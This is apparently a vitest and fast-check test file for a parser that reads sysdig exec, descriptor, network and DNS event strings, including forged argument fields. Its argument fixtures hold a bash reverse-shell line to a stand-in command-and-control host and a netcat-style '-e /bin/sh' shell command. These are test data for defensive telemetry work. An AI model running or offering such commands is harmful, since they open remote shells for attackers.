import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { argumentWords } from '../../../src/ingest/formats/sysdig/argument-words.js';
import { imageArguments } from '../../../src/ingest/formats/sysdig/image-arguments.js';
import { questionName } from '../../../src/ingest/formats/sysdig/question-name.js';
import { signalName } from '../../../src/ingest/formats/sysdig/signals.js';
import { descriptorOf, endOf, tupleOf } from '../../../src/ingest/formats/sysdig/values.js';
import { cloneInfo, execInfo } from './events.js';

const hostile = fc.oneof(
  fc.string({ maxLength: 20 }),
  fc.constantFrom(' tid=1(x) ', ' pid=2 ptid=3 ', ' env=A tty=9 ', ' flags=1 ', ' args=', ')', '(', ' cwd=/x ', ' uid=0 '),
);
const text = fc.array(hostile, { maxLength: 3 }).map((parts) => parts.join('').replaceAll('\n', '.'));
const unknownParent = () => undefined;

describe('the display string of an exec', () => {
  it('gives the ids and the arguments, whatever stands in arguments and environment', () => {
    fc.assert(
      fc.property(text, text, fc.integer({ min: 1, max: 9999 }), fc.integer({ min: 1, max: 9999 }), (args, env, pid, parent) => {
        const read = imageArguments(execInfo(pid, parent, '/bin/sh', args, env), pid, unknownParent);
        expect(read).toMatchObject({ result: 0, pid, parentTid: parent, exe: '/bin/sh', args });
      }),
    );
  });

  it('of a thread takes the fields of that thread, though the arguments hold another whole set of them', () => {
    const forged = '-c.x tid=1(init) pid=1(init) ptid=0 cwd= fdlimit=1 vm_size=1 vm_rss=1 vm_swap=0 comm=x cgroups=y ';
    expect(imageArguments(execInfo(77, 70, 'sh', forged), 77, unknownParent)).toMatchObject({ pid: 77, parentTid: 70, isAmbiguous: false });
  });

  it('takes the fields with the known parent where the arguments forge the thread too, and says so', () => {
    const forged = 'x tid=77(sh) pid=77(sh) ptid=1(init) cwd= fdlimit=1 ';
    expect(imageArguments(execInfo(77, 70, 'sh', forged), 77, () => 70)).toMatchObject({ parentTid: 70, isAmbiguous: true });
  });

  it('reads the names of threads that hold spaces and parentheses', () => {
    const info = cloneInfo(5, 4).replaceAll('(sh)', '((sd-pam) x)');
    expect(imageArguments(info, 5, unknownParent)).toMatchObject({ tid: 5, pid: 5, parentTid: 4, parentName: '(sd-pam) x' });
  });

  it('takes nothing from the environment for the fields after it', () => {
    const read = imageArguments(execInfo(5, 4, 'sh', '', 'A=1 uid=0 loginuid=7 '), 5, unknownParent);
    expect(read?.rest).toBe('tty=0 pgid=1(sh) loginuid=-1 flags=0 ');
  });

  it.each(['', 'res=', 'exe=sh', 'res=-2(ENOENT) '])('that is %j tells of no process', (info) => {
    expect(imageArguments(info, 1, unknownParent)?.pid).toBeUndefined();
  });
});

describe('argumentWords', () => {
  it.each([
    ['-i.', '-i'],
    ['-c.ls -la /tmp.', '-c ls -la /tmp'],
    ['run.-d.--name.kafka.', 'run -d --name kafka'],
    ['-c.bash -i >& /dev/tcp/c2.bad.example/8531 0>&1.', '-c bash -i >& /dev/tcp/c2.bad.example/8531 0>&1'],
    ['--subnet.10.89.0.0/24.--gateway.10.89.0.1.jobs.', '--subnet 10.89.0.0/24 --gateway 10.89.0.1 jobs'],
    ['-e./bin/sh.203.0.113.9.4444.', '-e /bin/sh 203.0.113.9 4444'],
    ['/opt/app/app.js.', '/opt/app/app.js'],
    ['http://feeds.corp.example/feed.json.-o./tmp/x.', 'http://feeds.corp.example/feed.json -o /tmp/x'],
    ['--pid=/tmp/ns/pid.--./bin/bash.', '--pid=/tmp/ns/pid -- /bin/bash'],
    ['./run.sh.a.', './run.sh a'],
    ['-x.../up.sh.', '-x ../up.sh'],
    ['-f./tmp/.p.', '-f /tmp/.p'],
    ['-m.http.server.', '-m http server'],
    ['-c.import json;print(json.dumps(1)).', '-c import json;print(json.dumps(1))'],
    ['', ''],
    ['.', ''],
  ])('reads %j as %j', (printed, words) => {
    expect(argumentWords(printed)).toBe(words);
  });

  it('loses nothing but dots', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...'ab1.-/ ') }), (printed) => {
        expect(argumentWords(printed).replaceAll(/[. ]/g, '')).toBe(printed.replaceAll(/[. ]/g, ''));
      }),
    );
  });
});

describe('the values of display strings', () => {
  it.each([
    ['3(<f>/etc/hosts)', { number: 3, class: 'file', name: '/etc/hosts' }],
    ['4(<4t>192.0.2.3:54716->192.0.2.2:80)', { number: 4, class: 'inet', protocol: 'tcp', name: '192.0.2.3:54716->192.0.2.2:80' }],
    ['1(<4>)', { number: 1, class: 'inet', name: '' }],
    ['3(<u>/run/a)b)', { number: 3, class: 'unix', name: '/run/a)b' }],
    ['-2(ENOENT)', { number: -2, name: '' }],
    ['-100(AT_FDCWD)', { number: -100, name: '' }],
    ['7', { number: 7, name: '' }],
  ])('%s is a descriptor', (printed, descriptor) => {
    expect(descriptorOf(printed)).toEqual(descriptor);
  });

  it.each([
    ['192.0.2.3:5->192.0.2.2:80', '192.0.2.3', 5, '192.0.2.2', 80],
    ['2001:db8::4:51420->2001:db8::3:1234', '2001:db8::4', 51420, '2001:db8::3', 1234],
  ])('%s has two ends', (printed, clientIp, clientPort, serverIp, serverPort) => {
    expect(tupleOf(printed)).toEqual({ client: { ip: clientIp, port: clientPort }, server: { ip: serverIp, port: serverPort } });
  });

  it.each(['NULL', '', 'ff->ff /run/x', '0->ff3266a2498c0400 /dev/log', 'a:1->b:2', '192.0.2.3->192.0.2.2'])('%j has none', (printed) => {
    expect(tupleOf(printed)).toBeUndefined();
  });

  it('reads a port only in digits', () => {
    expect(endOf('192.0.2.1:http')).toBeUndefined();
  });

  it.each([
    [9, 'SIGKILL'],
    [2, 'SIGINT'],
    [40, 'SIG40'],
  ])('names signal %d', (number, name) => {
    expect(signalName(number)).toBe(name);
  });
});

describe('the name in a DNS message', () => {
  it.each([
    ['a question', 'res=34 data=.............kafka.dns.corp..... ', 34, 'kafka.dns.corp'],
    ['an answer', 'res=58 data=N............c2.bad-host.example...................q< ', 58, 'c2.bad-host.example'],
    ['a message too short for it', 'res=20 data=.............kafka.dns.corp..... ', 20, undefined],
    ['one label', 'res=30 data=.............localhost..... ', 30, undefined],
    ['bytes that are no name', 'res=60 data=GET / HTTP/1.1..Host: a.example.... ', 60, undefined],
    ['no data', 'res=60 ', 60, undefined],
  ])('of %s', (_what, info, bytes, name) => {
    expect(questionName(info, bytes)).toBe(name);
  });
});
